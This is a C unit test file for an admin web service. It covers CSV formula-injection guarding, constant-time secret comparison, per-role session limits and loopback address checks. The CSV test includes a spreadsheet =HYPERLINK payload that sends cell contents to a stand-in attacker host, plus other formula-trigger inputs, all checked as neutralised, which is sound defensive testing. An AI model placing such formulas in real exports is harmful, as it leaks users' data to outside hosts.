/*
 * test_security.c - issue 15's unit-level checks: the CSV writer's formula
 * guard, the constant-time compare, per-role dashboard sessions.
 */
#include <stdbool.h>
#include <stddef.h>
#include <stdlib.h>

#include <jansson.h>

#include "admin.h"
#include "channel.h"
#include "conf.h"
#include "crypto.h"
#include "t.h"
#include "web.h"

/* tests/run links with -Wl,--wrap=CRYPTO_memcmp: every compare is recorded. */
int __real_CRYPTO_memcmp(const void *a, const void *b, size_t n);
int __wrap_CRYPTO_memcmp(const void *a, const void *b, size_t n);
static int memcmp_calls;
static size_t memcmp_len;
int __wrap_CRYPTO_memcmp(const void *a, const void *b, size_t n)
{
    memcmp_calls++;
    memcmp_len = n;
    return __real_CRYPTO_memcmp(a, b, n);
}

/* Every export goes through admin_reply_csv: a cell a spreadsheet would run
 * as a formula is shown as text; numbers and quoting stay as they were. */
static void test_csv_formula_cells_neutralised(void)
{
    static const char *const cols[] = {"name", "n", NULL};
    json_t *rows = json_pack("[{s:s,s:i},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s}]", "name",
                             "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"点我\")", "n", -5,
                             "name", "+1", "name", "-2+3", "name", "@SUM(A1)", "name", "\tx",
                             "name", "\rx", "name", "李=明", "name", "a,b");
    struct http_resp r = {0};
    admin_reply_csv(&r, rows, cols);
    CHECK_INT(r.status, 200);
    CHECK_STR(r.body, "name,n\r\n"
                      "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"点我\"\")\",-5\r\n"
                      "\"'+1\",\r\n"
                      "\"'-2+3\",\r\n"
                      "\"'@SUM(A1)\",\r\n"
                      "\"'\tx\",\r\n"
                      "\"'\rx\",\r\n"
                      "李=明,\r\n"
                      "\"a,b\",\r\n");
    http_resp_release(&r);
}

/* Lengths differ: still one compare of two equal-length digests. */
static void test_crypto_str_eq_compares_digests(void)
{
    memcmp_calls = 0;
    CHECK(!crypto_str_eq("a", "a-much-longer-secret-value"));
    CHECK_INT(memcmp_calls, 1);
    CHECK_INT(memcmp_len, 32);
    memcmp_calls = 0;
    CHECK(crypto_str_eq("same-secret", "same-secret"));
    CHECK(!crypto_str_eq("same-secret", "same-secreT"));
    CHECK(!crypto_str_eq("", "x"));
    CHECK(crypto_str_eq("", ""));
    CHECK_INT(memcmp_calls, 4);
    CHECK_INT(memcmp_len, 32);
}

/* 300 union sign-ins never sign the super admin or the desk out; the union's
 * own oldest sessions make room. */
static void test_web_sessions_per_role(void)
{
    struct websess *ws = websess_new(3600000);
    char sup[WEB_ID_HEX], desk[WEB_ID_HEX], first[WEB_ID_HEX], id[WEB_ID_HEX], csrf[WEB_ID_HEX];
    CHECK_INT(websess_open(ws, ADMIN_ROLE_SUPER, 1000, sup, csrf), 0);
    CHECK_INT(websess_open(ws, ADMIN_ROLE_DESK, 1001, desk, csrf), 0);
    CHECK_INT(websess_open(ws, ADMIN_ROLE_UNION, 1002, first, csrf), 0);
    for (int i = 0; i < 300; i++)
        CHECK_INT(websess_open(ws, ADMIN_ROLE_UNION, 2000 + i, id, csrf), 0);
    CHECK_STR(websess_check(ws, sup, 5000, NULL), ADMIN_ROLE_SUPER);
    CHECK_STR(websess_check(ws, desk, 5000, NULL), ADMIN_ROLE_DESK);
    CHECK_STR(websess_check(ws, id, 5000, NULL), ADMIN_ROLE_UNION); /* the newest */
    CHECK(websess_check(ws, first, 5000, NULL) == NULL);            /* its own oldest went */
    websess_free(ws);
}

/* Which listen addresses count as loopback for unsigned generic requests. */
static void test_conf_listen_loopback(void)
{
    CHECK(conf_listen_loopback("127.0.0.1:8080"));
    CHECK(conf_listen_loopback("127.9.9.9:0"));
    CHECK(conf_listen_loopback("[::1]:8080"));
    CHECK(conf_listen_loopback("localhost:8080"));
    CHECK(!conf_listen_loopback("0.0.0.0:8080"));
    CHECK(!conf_listen_loopback(":8080"));
    CHECK(!conf_listen_loopback("[::]:8080"));
    CHECK(!conf_listen_loopback("10.0.0.5:8080"));
    CHECK(!conf_listen_loopback("[::ffff:127.0.0.1]:80")); /* not worth the doubt */
    CHECK(!conf_listen_loopback("example.org:80"));
}

const struct t_case security_tests[] = {
    T(test_conf_listen_loopback), T(test_csv_formula_cells_neutralised),
    T(test_crypto_str_eq_compares_digests), T(test_web_sessions_per_role), T_END};
